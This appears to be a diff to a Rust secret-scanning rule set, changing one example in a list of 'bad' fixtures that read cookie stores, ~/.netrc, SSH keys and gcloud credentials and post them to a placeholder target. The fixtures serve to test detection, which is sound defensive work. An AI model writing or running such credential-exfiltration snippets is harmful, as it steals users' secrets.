@@ -417,7 +417,7 @@ pub(super) const RULES: &[ScanRule] = &[
         message: "a store of secrets is read in a script that sends data away",
         mend: "leave that store alone, and let the user hand over what is needed",
         bad: &[
-            "@a.vue\n<script>\nfunction sync() {\n  const jar = fs.readFileSync(home + '/Library/cookies.sqlite')\n  fetch(target, { method: 'POST', body: jar })\n}\n</script>\n",
+            "@a.lua\nlocal function sync()\n  local jar = io.open(home .. '/.netrc'):read('*a')\n  http.post(target, jar)\nend\n",
             "@a.js\nconst fs = require('fs')\nfunction sync() {\n  const jar = fs.readFileSync(home + '/Library/cookies.sqlite')\n  fetch(target, { method: 'POST', body: jar })\n}\n",
             "@a.py\nfrom pathlib import Path\nimport requests\n\ndef load():\n    return (Path.home() / '.ssh' / 'id_rsa').read_text()\n\ndef report(text):\n    requests.get(TARGET, params={'q': text})\n\nreport(load())\n",
             "@a.py\nimport os, requests\n\nblob = open(os.path.expanduser('~/.config/gcloud/application_default_credentials.json')).read()\nrequests.post(TARGET, data=blob)\n",
